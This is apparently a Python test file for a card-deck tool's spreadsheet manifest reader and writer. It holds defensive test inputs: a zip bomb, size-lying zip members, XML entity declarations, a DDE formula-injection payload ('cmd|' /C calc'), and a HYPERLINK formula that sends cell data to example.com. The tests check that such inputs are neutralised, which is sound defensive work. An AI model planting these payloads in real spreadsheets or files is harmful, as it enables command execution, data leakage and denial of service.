"""Spreadsheet manifests (issue 23): ``cards --format csv|xlsx|ods`` writes what ``validate
--manifest`` reads back without loss; a sheet edited in one cell is refused naming that row and
column; every spreadsheet is read through the bounded reader (zip bombs, entities, huge sheets)."""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from rushmore_print.cli.commands import cli
from rushmore_print.deck.manifest import validate_manifest
from rushmore_print.deck.rows import card_rows, deck_tables
from rushmore_print.deck.sheet_manifest import read_sheet_manifest
from rushmore_print.errors import RushmoreError
from rushmore_print.readers import spreadsheets
from rushmore_print.readers.spreadsheets import SheetError, SheetFormat, Table, read_tables, write_tables

from .conftest import EXAMPLES
from .docpages import page
from .fuzz_sheets import oracle_rows, table_rows

FORMATS = ["csv", "xlsx", "ods"]


def written(runner, tmp_path, fmt, *args):
    result = runner.invoke(cli, ["cards", *args, "--format", fmt])
    assert result.exit_code == 0, result.output
    path = tmp_path / f"deck.{fmt}"
    path.write_bytes(result.stdout_bytes)
    return path


def edited(path, row, column, value):
    """The sheet at ``path`` with one cell of its ``cards`` sheet changed, as a user would in a
    spreadsheet program: the CSV through the csv module, the XLSX through openpyxl, the ODS cell's
    text replaced in its content.xml."""
    kind = SheetFormat.of(path)
    if kind is SheetFormat.CSV:
        rows = list(csv.reader(io.StringIO(path.read_text())))
        rows[row - 1][column - 1] = value
        out = io.StringIO()
        csv.writer(out).writerows(rows)
        path.write_text(out.getvalue())
    elif kind is SheetFormat.XLSX:
        book = openpyxl.load_workbook(path)
        book["cards"].cell(row, column).value = value
        book.save(path)
    else:
        with zipfile.ZipFile(path) as archive:
            members = {info.filename: archive.read(info) for info in archive.infolist()}
        content = members["content.xml"].decode()
        spans = [match.span() for match in re.finditer(r"<table:table-row>.*?</table:table-row>", content)]
        start, end = spans[row - 1]
        cells = re.findall(r"<table:table-cell[^>]*/>|<table:table-cell.*?</table:table-cell>", content[start:end])
        cells[column - 1] = f'<table:table-cell office:value-type="string"><text:p>{value}</text:p></table:table-cell>'
        members["content.xml"] = (content[:start] + f"<table:table-row>{''.join(cells)}</table:table-row>"
                                  + content[end:]).encode()  # fmt: skip
        with zipfile.ZipFile(path, "w") as archive:
            for name, body in members.items():
                archive.writestr(name, body)
    return path


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_written_sheet_validates_and_reads_back_the_same_deck(runner, tmp_path, fmt, classic_deck):
    path = written(runner, tmp_path, fmt)
    result = runner.invoke(cli, ["validate", "--strict", "--manifest", str(path)])
    assert result.exit_code == 0, result.output
    assert "16 Monuments, 39 Search cards checked" in result.output
    deck, findings, _ = read_sheet_manifest(path)
    assert findings == []
    assert (deck.monuments, deck.search, deck.heads, deck.directions) == (
        classic_deck.monuments, classic_deck.search, classic_deck.heads, classic_deck.directions,
    )  # fmt: skip


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_the_binary_sheets_are_byte_identical_when_written_again(runner, tmp_path, fmt):
    first = runner.invoke(cli, ["cards", "--format", fmt]).stdout_bytes
    assert runner.invoke(cli, ["cards", "--format", fmt]).stdout_bytes == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        if fmt == "ods":
            assert archive.infolist()[0].filename == "mimetype"
            assert archive.infolist()[0].compress_type == zipfile.ZIP_STORED


# (row, column, new value, the error's place and message); the columns are id, kind, notation,
# red, level, answer; row 18 is S01 (RRLL, 0 red, basic, M13), row 6 the Monument M05 (LRLL).
EDITS = [
    (18, 5, "expert", "row 18, columns C (notation) and E (level): S01: level says expert, but a card with 0 red "
                      "heads is basic"),
    (18, 6, "M02", "row 18, columns C (notation) and F (answer): S01: answer says M02, but RRLL matches M13"),
    (18, 3, "RRLR", "row 18, columns C (notation) and F (answer): S01: answer says M13, but RRLR matches M14"),
    (18, 3, "RXLL", "row 18, column C (notation): S01: 'RXLL': 'X' is not a direction letter; use L or R, and * "
                    "after a red head"),
    (18, 5, "hard", "row 18, column E (level): S01: 'hard' is not a level; use basic, advanced or expert"),
    (18, 4, "1", "row 18, columns C (notation) and D (red): S01: red says '1', but 'RRLL' has 0 red heads (* after "
                 "a letter)"),
    (18, 2, "monument", "row 18, columns B (kind), D (red), E (level) and F (answer): S01: a Monument has no red "
                        "heads, level or answer; empty them or make the row a search card"),
    (18, 2, "joker", "row 18, column B (kind): S01: 'joker' is not a kind; use monument or search"),
    (6, 3, "LLLL", "row 6, column C (notation): M05: shows LLLL, the same as M01; each combination must appear once"),
    (19, 1, "S01", "rows 18 and 19, column A (id): S01: this id is used by 2 Search cards"),
]  # fmt: skip


def test_the_rows_the_deck_page_quotes_are_rows_of_the_classic_deck_s_sheet(runner, tmp_path):
    """The deck page shows a Monument's row and a Search card's (``S17, search, LR*RL, ...``): each
    is that card's row in ``rushmore cards --format csv``, its empty cells left off."""
    quoted = re.findall(r"`([MS]\d\d, (?:monument|search), [^`]*)`", " ".join(page("guide/deck.md").split()))
    assert len(quoted) == 2, quoted
    rows = {tuple(row) for row in csv.reader(io.StringIO(written(runner, tmp_path, "csv").read_text("utf-8")))}
    for shown in quoted:
        cells = shown.split(", ")
        assert (*cells, *[""] * (6 - len(cells))) in rows, shown


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("row, column, value, error", EDITS, ids=[f"{'ABCDEF'[e[1] - 1]}{e[0]}={e[2]}" for e in EDITS])
@pytest.mark.slow
def test_a_sheet_edited_in_one_cell_is_refused_naming_that_row_and_column(
    runner, tmp_path, fmt, row, column, value, error
):
    path = edited(written(runner, tmp_path, fmt), row, column, value)
    result = runner.invoke(cli, ["validate", "--manifest", str(path)])
    assert result.exit_code == 1, result.output
    sheet = "" if fmt == "csv" else "sheet 'cards', "
    assert f"  error: {sheet}{error}\n" in result.output, result.output


def test_columns_in_any_order_with_notes_and_no_answers_validate(tmp_path, classic_deck):
    cards = deck_tables(classic_deck, "Classic", card_rows(classic_deck))[0]
    rows = [("notes", "level", "notation", "id")] + [("x", lv, nt, i) for i, _, nt, _, lv, _ in cards.rows[1:]]
    path = tmp_path / "mine.csv"
    path.write_bytes(write_tables([Table(None, tuple(rows))], SheetFormat.CSV))
    report = validate_manifest(path)
    assert report.ok(strict=True) and report.search == 39
    rows.append(("x", "basic", "RRLL", "S99"))  # no answer column: the card is still judged by the rule
    rows.append(("x", "advanced", "R*RLL", "S98"))
    path.write_bytes(write_tables([Table(None, tuple(rows))], SheetFormat.CSV))
    assert [str(e) for e in validate_manifest(path).errors] == [
        "row 57, column C (notation): S99: is the same card as S01 (RRLL)",
        "row 58, column C (notation): S98: is the same card as S28 (R*RLL)",
    ]


def test_a_sheet_of_another_design_takes_its_heads_from_the_design(runner, tmp_path):
    five = str(tmp_path.parent / "five.yaml")
    import shutil

    shutil.copy(EXAMPLES / "five.yaml", five)
    path = written(runner, tmp_path, "csv", five)
    alone = runner.invoke(cli, ["validate", "--manifest", str(path)])  # a CSV has no design sheet: classic
    assert alone.exit_code == 1
    assert "row 2, column C (notation): M01: 'LLLLL': 5 heads given, this design has 4" in alone.output
    given = runner.invoke(cli, ["validate", five, "--manifest", str(path)])
    assert given.exit_code == 0, given.output
    xlsx = written(runner, tmp_path, "xlsx", five)  # its design sheet says the heads
    assert runner.invoke(cli, ["validate", "--manifest", str(xlsx)]).exit_code == 0


def test_a_json_manifest_with_a_design_is_still_refused(runner, tmp_path):
    path = tmp_path / "deck.json"
    path.write_text(runner.invoke(cli, ["cards", "--format", "json"]).output)
    result = runner.invoke(cli, ["validate", str(EXAMPLES / "five.yaml"), "--manifest", str(path)])
    assert result.exit_code == 2 and "not both" in result.output


@pytest.mark.parametrize(
    "rows, message",
    [
        ((), "row 1: the sheet is empty; its first row names the columns id, kind, notation, red, level, answer"),
        ((("id", "faces"), ("M01", "LLLL")), "row 1: no column headed 'notation' or 'level'; the first row names "
                                             "the columns id, kind, notation, red, level, answer (kind, red and "
                                             "answer may be left out)"),
        ((("id", "notation", "level", "ID"),), "row 1: two columns are headed 'id' (A and D)"),
    ],
)  # fmt: skip
def test_a_sheet_without_its_header_is_refused_saying_what_the_header_is(tmp_path, rows, message):
    path = tmp_path / "bad.csv"
    path.write_bytes(write_tables([Table(None, rows)], SheetFormat.CSV))
    with pytest.raises(SheetError) as info:
        validate_manifest(path)
    assert str(info.value) == f"{path}: {message}"


def test_a_zip_that_would_inflate_past_the_limit_is_refused_before_inflating(runner, tmp_path, monkeypatch):
    path = written(runner, tmp_path, "xlsx")
    monkeypatch.setattr(spreadsheets, "MOST_UNZIPPED_BYTES", 10_000)
    with pytest.raises(SheetError, match=r"its parts would inflate to [\d,]+ bytes; a spreadsheet may inflate to"):
        read_tables(path)


@pytest.mark.slow
def test_a_real_zip_bomb_is_refused_by_its_directory(tmp_path):
    path = tmp_path / "bomb.ods"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("content.xml", b"<a>" + b" " * 160_000_000 + b"</a>")  # 160 MB of spaces: 155 KB
    assert path.stat().st_size < 1_000_000
    with pytest.raises(SheetError, match="its parts would inflate to 160,000,007 bytes"):
        read_tables(path)


def test_an_ods_declaring_an_entity_is_refused(tmp_path):
    path = tmp_path / "entity.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("content.xml", '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')
    with pytest.raises(SheetError, match=r"content\.xml line 1: declares a DOCTYPE or entity"):
        read_tables(path)


def test_repeated_rows_and_cells_of_an_ods_are_bounded(tmp_path):
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="cards"><table:table-row><table:table-cell table:number-columns-repeated="16384">'
        "<text:p>id</text:p></table:table-cell></table:table-row>"
        '<table:table-row table:number-rows-repeated="1048575"><table:table-cell/></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    path = tmp_path / "wide.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("content.xml", content)
    (table,) = read_tables(path)
    assert table.rows == (("id",) * spreadsheets.MOST_COLUMNS,)  # the blank rows to the sheet's bottom dropped


def test_an_ods_from_another_writer_reads_the_same(tmp_path, classic_deck):
    odf = pytest.importorskip("odf.opendocument")
    from odf.table import Table as OdfTable
    from odf.table import TableCell, TableRow
    from odf.text import P

    document = odf.OpenDocumentSpreadsheet()
    for table in deck_tables(classic_deck, "Classic", card_rows(classic_deck)):
        sheet = OdfTable(name=table.name)
        for row in table.rows:
            line = TableRow()
            for value in row:
                cell = TableCell(valuetype="string")
                if value:
                    cell.addElement(P(text=value))
                line.addElement(cell)
            sheet.addElement(line)
        document.spreadsheet.addElement(sheet)
    path = tmp_path / "odfpy.ods"
    document.save(str(path))
    expected = [  # a reader drops a row's trailing blank cells
        Table(table.name, tuple(tuple(" ".join(row).rstrip().split(" ")) if "" in row else row for row in table.rows))
        for table in deck_tables(classic_deck, "Classic", card_rows(classic_deck))
    ]
    assert read_tables(path) == expected
    assert validate_manifest(path).ok(strict=True)


@pytest.mark.parametrize("fmt", FORMATS)
def test_damaged_sheets_are_refused_by_name_never_a_crash(runner, tmp_path, fmt):
    whole = written(runner, tmp_path, fmt).read_bytes()
    rng = random.Random(23)
    refused = 0
    for number in range(40):
        data = bytearray(whole)
        for _ in range(rng.choice([1, 2, 8])):
            data[rng.randrange(len(data))] = rng.randrange(256)
        path = tmp_path / f"d{number}.{fmt}"
        path.write_bytes(bytes(data[: rng.choice([len(data), rng.randrange(len(data))])]))
        try:
            report = validate_manifest(path)
        except RushmoreError as exc:
            assert str(exc).startswith(str(path)), exc
            refused += 1
        else:
            refused += not report.ok()
    assert refused > 20  # damage is seen, not read as some other deck


@pytest.mark.slow
def test_cards_refuses_to_write_a_binary_sheet_to_a_terminal(tmp_path):
    import os
    import pty
    import subprocess
    import sys

    leader, follower = pty.openpty()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "rushmore_print", "cards", "--format", "xlsx"],
            stdout=follower, stderr=subprocess.PIPE, cwd=tmp_path, timeout=60,
        )  # fmt: skip
    finally:
        os.close(follower)
        os.close(leader)
    assert done.returncode == 2 and b"give -o deck.xlsx or redirect it" in done.stderr


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.slow
def test_a_sheet_on_standard_input_is_told_by_its_bytes(tmp_path, fmt):
    import subprocess
    import sys

    made = subprocess.run([sys.executable, "-m", "rushmore_print", "cards", "--format", fmt], capture_output=True)
    judged = subprocess.run(
        [sys.executable, "-m", "rushmore_print", "validate", "--manifest", "-"], input=made.stdout, capture_output=True
    )
    assert judged.returncode == 0, judged.stderr
    assert b"16 Monuments, 39 Search cards checked" in judged.stdout


FORMULA_DESIGN = """
name: '=HYPERLINK("https://example.com/?"&A1,"open")'
heads:
  - {name: "=1+1", look: tied}
  - {name: "+Jefferson", look: wavy}
  - {name: "-Roosevelt", look: spectacles}
  - {name: "@SUM(A1)", look: beard}
directions: [{name: "=left", letter: L}, {name: "-right", letter: R}]
search: {seed: 1927, red_counts: {0: 16, 1: 12, 2: 11}}
"""


def formulas_in(path):
    """Every formula a spreadsheet program would find in the file: XLSX ``<f>`` elements, ODS
    ``table:formula`` attributes, CSV cells that start as a formula does."""
    kind = SheetFormat.of(path)
    if kind is SheetFormat.CSV:
        cells = [cell for row in csv.reader(io.StringIO(path.read_text("utf-8"))) for cell in row]
        return [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)]
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist() if name.endswith(".xml"))
    if kind is SheetFormat.XLSX:
        return re.findall(rb"<(?:\w+:)?f[ >/].{0,40}|fullCalcOnLoad=\"1\"", xml)
    return re.findall(rb"table:formula=.{0,40}", xml)


@pytest.mark.parametrize("fmt", FORMATS)
def test_names_that_look_like_formulas_are_written_as_text_and_validate_back(runner, tmp_path, fmt, write_design):
    """Issue 32.1: a design named ``=HYPERLINK(...)`` wrote a formula cell into a workbook set to
    recalculate on open, which then failed its own validate (the cell read back empty)."""
    design = write_design(FORMULA_DESIGN)
    path = tmp_path / f"deck.{fmt}"
    result = runner.invoke(cli, ["cards", str(design), "--format", fmt, "-o", str(path)])
    assert result.exit_code == 0, result.output
    assert formulas_in(path) == []
    frame = [str(design)] if fmt == "csv" else []  # a CSV takes its heads from the design
    result = runner.invoke(cli, ["validate", *frame, "--strict", "--manifest", str(path)])
    assert result.exit_code == 0, result.output
    assert "16 Monuments, 39 Search cards checked" in result.output
    if fmt != "csv":
        design_sheet = next(table for table in read_tables(path) if table.name == "design")
        assert design_sheet.rows[:3] == (
            ("design", '=HYPERLINK("https://example.com/?"&A1,"open")'),
            ("heads", "=1+1", "+Jefferson", "-Roosevelt", "@SUM(A1)"),
            ("directions", "=left", "-right"),
        )


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_formula_start_is_written_as_text_and_reads_back_the_same(tmp_path, fmt):
    values = [f"{start}cmd|' /C calc'!A0" for start in spreadsheets.FORMULA_STARTS if start not in "\t\r\n"]
    values += ["'=1", "''-2", "'M01", "M01", "-", "=", "@"]
    table = Table("cards", (("id", "note"), *((f"M{n:02}", value) for n, value in enumerate(values, 1))))
    path = tmp_path / f"notes.{fmt}"
    path.write_bytes(write_tables([table], SheetFormat(fmt)))
    assert formulas_in(path) == []
    (read, *_) = read_tables(path)
    assert read.rows == table.rows
    if fmt == "xlsx":  # Excel keeps such a cell text when it is edited: the quote prefix style
        book = openpyxl.load_workbook(path)
        assert [book["cards"].cell(n, 2).quotePrefix for n in (2, 3)] == [True, True]
        assert book["cards"].cell(len(values) - 2, 2).quotePrefix is False  # M01 needs none


def rezipped(path, change):
    """The zip at ``path`` rewritten with ``change(name, body) -> body`` applied to each member."""
    with zipfile.ZipFile(path) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members:
            archive.writestr(name, change(name, body))
    return path


def cards_sheet_edited(path, edit):
    """The XLSX at ``path`` with ``edit(xml) -> xml`` applied to its cards sheet's XML."""
    return rezipped(path, lambda name, body: edit(body) if name == "xl/worksheets/sheet1.xml" else body)


def test_an_xlsx_with_a_stale_dimension_is_read_whole(runner, tmp_path, classic_deck):
    """Issue 32.2: a good deck whose writer left a stale ``A1`` dimension read as 0 cards."""
    path = written(runner, tmp_path, "xlsx")
    stale = rb'<dimension ref="A1"/>'
    cards_sheet_edited(path, lambda xml: re.sub(rb"<dimension [^>]*>", stale, xml))
    with zipfile.ZipFile(path) as archive:
        assert stale in archive.read("xl/worksheets/sheet1.xml")
    deck, findings, _ = read_sheet_manifest(path)
    assert (deck.monuments, deck.search, findings) == (classic_deck.monuments, classic_deck.search, [])


def test_a_card_in_a_row_past_the_dimension_is_read_and_judged(runner, tmp_path):
    """Issue 32.2: a duplicated card in a row past the sheet's declared size was never read, and
    the deck was called valid (Excel and LibreOffice show that row)."""
    path = written(runner, tmp_path, "xlsx")
    extra = (b'<row r="57"><c r="A57" t="inlineStr"><is><t>M99</t></is></c><c r="B57" t="inlineStr"><is><t>monument'
             b'</t></is></c><c r="C57" t="inlineStr"><is><t>LLLL</t></is></c></row></sheetData>')  # fmt: skip
    cards_sheet_edited(path, lambda xml: xml.replace(b"</sheetData>", extra))
    report = validate_manifest(path)
    assert not report.ok()
    assert any("row 57" in str(finding) and "M99" in str(finding) for finding in report.errors), report.errors


@pytest.mark.slow  # writes and reads a million rows
def test_rows_past_the_limit_are_refused_whatever_the_dimension_says(runner, tmp_path):
    """Issue 32.2: a million rows past the dimension passed unread instead of hitting the limit."""
    path = written(runner, tmp_path, "xlsx")
    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
                    for n in range(57, spreadsheets.MOST_ROWS + 60))  # fmt: skip
    cards_sheet_edited(path, lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"))
    with pytest.raises(SheetError, match=f"sheet 'cards': more than {spreadsheets.MOST_ROWS:,} rows"):
        read_tables(path)


@pytest.mark.parametrize(
    "rows, message",
    [
        (b'<row r="3"><c r="A3"><v>1</v></c></row><row r="2"><c r="A2"><v>2</v></c></row>',
         "sheet 'cards': row 2 is listed after row 3; each row comes once, in order"),
        (b'<row r="2"><c r="A2"><v>1</v></c></row><row r="2"><c r="A2"><v>2</v></c></row>',
         "sheet 'cards': row 2 is listed after row 2"),
        (b'<row r="2"><c r="B2"><v>1</v></c><c r="A2"><v>2</v></c></row>',
         "sheet 'cards': cell A2 is listed after B2; each cell comes once, in order"),
        (b'<row r="2"><c r="A7"><v>1</v></c></row>', "sheet 'cards', row 2, column : a cell of row 2 is named 'A7'"),
        (b'<row r="2"><c r="A2" t="s"><v>99999</v></c></row>', "refers to shared text '99999', but the workbook has"),
    ],
    ids=["rows out of order", "a row twice", "cells out of order", "a cell in another row", "no such shared text"],
)  # fmt: skip
def test_rows_and_cells_that_claim_one_place_are_refused(tmp_path, rows, message):
    """Two rows (or cells) claiming one place show one of them in a spreadsheet program; which one
    is not for the reader to guess."""
    path = tmp_path / "deck.xlsx"
    path.write_bytes(write_tables([Table("cards", (("id", "notation", "level"),))], SheetFormat.XLSX))
    cards_sheet_edited(path, lambda xml: xml.replace(b"</row>", b"</row>" + rows, 1))
    with pytest.raises(SheetError) as info:
        read_tables(path)
    assert message in str(info.value)


@pytest.mark.parametrize(
    "cell, shown",
    [
        (b'<c r="A2" t="inlineStr"><is><t>M01</t></is></c>', "M01"),
        (b'<c r="A2" t="n"><is><t>M01</t></is></c>', ""),
        (b'<c r="A2" t="str"><is><t>M01</t></is></c>', ""),
        (b'<c r="A2" t="b"><is><t>M01</t></is><v>1</v></c>', "TRUE"),
        (b'<c r="A2" t="inlineStr"><f>A1</f><v>M01</v></c>', ""),
        (b'<c r="A2" t="inlineStr"><f>A1</f><is><t>M02</t></is><v>M01</v></c>', "M02"),
        (b'<c r="A2" t="str"><f>A1</f><v>M01</v></c>', "M01"),
    ],
    ids=["inline text", "a number cell holding inline text", "a formula's text cell holding inline text",
         "a boolean beside inline text", "inline text made a formula", "a formula beside inline text",
         "a formula's text result"],
)  # fmt: skip
def test_a_cell_shows_the_value_of_its_type_alone(tmp_path, cell, shown):
    """The fuzzer found a cell whose type was changed still read as its inline text, where
    openpyxl (and a spreadsheet program) shows the value its type names: ``<is><t>`` for inline
    text only, ``<v>`` for every other type."""
    path = tmp_path / "deck.xlsx"
    path.write_bytes(write_tables([Table("cards", (("id",),))], SheetFormat.XLSX))
    cards_sheet_edited(path, lambda xml: xml.replace(b"</row>", b'</row><row r="2">' + cell + b"</row>", 1))
    expected = [(shown,)] if shown else []  # a row of empty cells is no row
    (cards,) = read_tables(path)
    assert table_rows(cards.rows) == [("id",), *expected]
    assert oracle_rows(path) == [("cards", [("id",), *expected])]


@pytest.mark.parametrize("kind", [b"bogus", b"", b"inlinestr"])
def test_a_cell_of_no_known_type_is_refused(tmp_path, kind):
    path = tmp_path / "deck.xlsx"
    path.write_bytes(write_tables([Table("cards", (("id",), ("M01",)))], SheetFormat.XLSX))
    cards_sheet_edited(path, lambda xml: xml.replace(b't="inlineStr"><is><t>M01', b't="%s"><is><t>M01' % kind, 1))
    with pytest.raises(SheetError, match=r"row 2, column A: a cell of type .*; a cell's type is one of b, d, e, inl"):
        read_tables(path)


def lying(path, member, declared):
    """The zip at ``path`` with ``member``'s size in its directory (and local header) changed to
    ``declared`` bytes, its data left as it is: a member that lies about its size."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(member)
    name = member.encode()
    local = info.header_offset
    assert data[local + 30 : local + 30 + len(name)] == name
    data[local + 22 : local + 26] = declared.to_bytes(4, "little")
    (central,) = [m.start() for m in re.finditer(b"PK\x01\x02", data) if data[m.start() + 46 :].startswith(name)]
    data[central + 24 : central + 28] = declared.to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


# The ODS by default (one reader inflates every member); the XLSX members in the full run (.ci/check).
@pytest.mark.parametrize("fmt, member", [("ods", "content.xml"),
                                         pytest.param("xlsx", "xl/worksheets/sheet1.xml", marks=pytest.mark.slow),
                                         pytest.param("xlsx", "xl/sharedStrings.xml", marks=pytest.mark.slow),
                                         pytest.param("xlsx", "xl/workbook.xml", marks=pytest.mark.slow)])  # fmt: skip
def test_a_member_that_lies_about_its_size_is_refused_in_bounded_memory(tmp_path, fmt, member):
    """Issue 32.3: an ODS of 1 MB whose content.xml claims a few bytes inflated to 1 GB before
    being cut (MemoryError after 13 s); members are now inflated in bounded pieces."""
    import tracemalloc

    path = tmp_path / f"liar.{fmt}"
    # 200 MB of spaces in 870 KB, written a megabyte at a time at the fastest level: a third of the
    # CPU of one 200 MB string at the default level (1.8 s), and no 400 MB of it in the memory
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open(member, "w") as data:
            data.write(b"<a>")
            spaces = b" " * 1_000_000
            for _ in range(200):
                data.write(spaces)
            data.write(b"</a>")
    lying(path, member, 1_000)
    tracemalloc.start()
    try:
        with pytest.raises(SheetError) as info:
            read_tables(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(info.value).startswith(f"{path}: ")
    assert peak < 20_000_000, f"{peak:,} bytes at the peak"


def test_a_member_packed_by_another_zip_method_is_refused(tmp_path):
    path = tmp_path / "deck.ods"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("content.xml", b"<a/>")
    with pytest.raises(SheetError, match=r"its part 'content\.xml' is packed by zip method 12; spreadsheet programs"):
        read_tables(path)


def test_an_xlsx_declaring_an_entity_is_refused(runner, tmp_path):
    path = written(runner, tmp_path, "xlsx")
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    rezipped(path, lambda name, body: laughs + body.split(b"?>")[-1] if name == "xl/workbook.xml" else body)
    with pytest.raises(SheetError, match=r"xl/workbook\.xml line 1: declares a DOCTYPE or entity"):
        read_tables(path)


def test_an_ods_comment_on_a_cell_is_not_its_text(tmp_path):
    path = tmp_path / "deck.ods"
    path.write_bytes(write_tables([Table("cards", (("id", "notation"), ("M01", "LLLL")))], SheetFormat.ODS))
    note = b"<office:annotation><text:p>checked by Ann</text:p></office:annotation><text:p>M01</text:p>"
    rezipped(path, lambda name, body: body.replace(b"<text:p>M01</text:p>", note) if name == "content.xml" else body)
    assert read_tables(path)[0].rows == (("id", "notation"), ("M01", "LLLL"))


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
@pytest.mark.parametrize("name, message", [("design", "two sheets are named 'design' and 'design'"),
                                           ("", "a sheet has no name")])  # fmt: skip
def test_sheets_without_a_name_or_sharing_one_are_refused(runner, tmp_path, fmt, name, message):
    """Which of two sheets named ``design`` holds the heads is not for the reader to guess (found by
    the spreadsheet fuzzer: the cards sheet renamed ``design`` was read as the design sheet)."""
    path = written(runner, tmp_path, fmt)
    old, new = (b'name="cards"', b'name="%s"' % name.encode()) if fmt == "xlsx" else (
        b'table:name="cards"', b'table:name="%s"' % name.encode())  # fmt: skip
    member = "xl/workbook.xml" if fmt == "xlsx" else "content.xml"
    rezipped(path, lambda part, body: body.replace(old, new) if part == member else body)
    with pytest.raises(SheetError, match=message):
        read_tables(path)


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_a_zip_of_a_version_zipfile_does_not_know_is_refused_by_name(runner, tmp_path, fmt):
    """Found by the spreadsheet fuzzer: a damaged byte in a member's "version needed to extract"
    raised NotImplementedError from zipfile, an internal error (exit 70)."""
    path = written(runner, tmp_path, fmt)
    data = bytearray(path.read_bytes())
    central = data.index(b"PK\x01\x02")
    data[central + 6] = 71  # version 7.1 needed to extract
    path.write_bytes(bytes(data))
    result = runner.invoke(cli, ["validate", "--manifest", str(path)])
    assert result.exit_code == 1 and f"error: {path}: not a readable {fmt.upper()} file" in result.stderr, result.output


@pytest.mark.parametrize("line_end", ["\n", "\r"])
def test_a_csv_line_too_long_to_be_a_row_is_refused_before_it_is_split(line_end):
    """The CSV reader makes every cell of a row before any is cut at 64 columns: one line of 39
    million commas, within the manifest's 40 MB, once took 830 MB. A long line of notes still reads."""
    notes = "id,notation,level," + ",".join(["note"] * 190_000)  # 950,018 characters: cut to 64 cells
    (table,) = read_tables(Path("deck.csv"), f"{notes}{line_end}M01,LLLL,".encode())
    assert len(table.rows[0]) == spreadsheets.MOST_COLUMNS and table.rows[1] == ("M01", "LLLL")
    text = f"id,notation,level{line_end}M01,LLLL,{line_end}S01,RRLL,basic" + "," * 1_000_000
    with pytest.raises(SheetError, match=r"deck\.csv: line 3: 1,000,014 characters; a line of a CSV manifest "):
        read_tables(Path("deck.csv"), text.encode())
